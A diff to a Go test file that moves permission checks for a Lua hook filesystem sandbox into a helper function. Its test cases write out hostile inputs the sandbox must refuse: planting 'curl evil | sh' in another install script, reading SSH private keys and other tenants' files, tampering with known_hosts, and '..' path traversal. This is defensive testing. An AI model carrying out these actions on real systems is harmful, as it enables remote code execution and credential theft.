@@ -9,6 +9,7 @@ import (
 	"github.com/loomrt/loom/bindings"
 	"github.com/loomrt/loom/bindings/bindingstest"
 	"github.com/loomrt/loom/bindings/fs"
+	lua "github.com/yuin/gopher-lua"
 )
 
 // layout is a work root with two tenants, a provider with an SSH key, the
@@ -53,7 +54,7 @@ func TestFSConfinedToOwnWorkDir(t *testing.T) {
 		assert(fs.read("state/a.json") == "{}")
 		assert(fs.read("`+filepath.Join(l.work, "state", "a.json")+`") == "{}")`)
 
-	for _, tc := range []struct{ code, want string }{
+	wantPermission(t, L, []struct{ code, want string }{
 		{`fs.write("../shell/scripts/install.sh", "curl evil | sh")`, "outside the hook's work dir"},
 		{`fs.write("` + l.script + `", "curl evil | sh")`, "outside the hook's work dir"},
 		{`fs.read("` + l.otherTenant + `")`, "outside the hook's work dir"},
@@ -62,12 +63,7 @@ func TestFSConfinedToOwnWorkDir(t *testing.T) {
 		{`fs.write("` + l.knownHosts + `", "* ssh-ed25519 AAAA")`, "outside the hook's work dir"},
 		{`fs.read("` + l.key + `")`, "outside the hook's work dir"},
 		{`fs.list("..")`, "outside the hook's work dir"},
-	} {
-		err := L.DoString(`local fs = require("loom.fs"); ` + tc.code)
-		if msg := bindingstest.ErrorMessage(err); !strings.Contains(msg, tc.want) || !strings.Contains(msg, "permission") {
-			t.Errorf("%s: got %q, want a permission error with %q", tc.code, msg, tc.want)
-		}
-	}
+	})
 	if b, _ := os.ReadFile(l.script); string(b) != "#!/bin/sh\necho ok\n" {
 		t.Fatalf("another type's script was overwritten: %q", b)
 	}
@@ -93,18 +89,13 @@ func TestFSGrantIsReadOnlyAndExact(t *testing.T) {
 		assert(fs.read("`+named+`") == "PRIVATE KEY")
 		assert(fs.read("`+l.key+`") == "PRIVATE KEY")
 		assert(fs.exists("`+named+`"))`)
-	for _, tc := range []struct{ code, want string }{
+	wantPermission(t, L, []struct{ code, want string }{
 		{`fs.write("` + named + `", "x")`, "read but never write"},
 		{`fs.remove("` + l.key + `")`, "read but never write"},
 		{`fs.read("../../providertypes/aws/ssh_keys/other.pem")`, "outside the hook's work dir"},
 		{`fs.list("../../providertypes/aws/ssh_keys")`, "outside the hook's work dir"},
 		{`fs.read("/var/coopr/work/t2/providertypes/aws/ssh_keys/k.pem")`, "belongs to tenant t2"},
-	} {
-		err := L.DoString(`local fs = require("loom.fs"); ` + tc.code)
-		if msg := bindingstest.ErrorMessage(err); !strings.Contains(msg, tc.want) || !strings.Contains(msg, "permission") {
-			t.Errorf("%s: got %q, want a permission error with %q", tc.code, msg, tc.want)
-		}
-	}
+	})
 	if b, _ := os.ReadFile(l.key); string(b) != "PRIVATE KEY" {
 		t.Fatalf("granted key changed: %q", b)
 	}
@@ -160,6 +151,18 @@ func TestFSErrorsRevealNothingOutside(t *testing.T) {
 			if strings.ReplaceAll(c, "present", "X") != strings.ReplaceAll(d, "missing", "X") {
 				t.Errorf("fs.%s: symlinks to a present and a missing target differ:\n%s\n%s", op, c, d)
 			}
+		}
+	}
+}
+
+// wantPermission runs each snippet (with fs in scope) and wants a
+// permission error whose message holds want.
+func wantPermission(t *testing.T, L *lua.LState, cases []struct{ code, want string }) {
+	t.Helper()
+	for _, tc := range cases {
+		err := L.DoString(`local fs = require("loom.fs"); ` + tc.code)
+		if msg := bindingstest.ErrorMessage(err); !strings.Contains(msg, tc.want) || !strings.Contains(msg, "permission") {
+			t.Errorf("%s: got %q, want a permission error with %q", tc.code, msg, tc.want)
 		}
 	}
 }
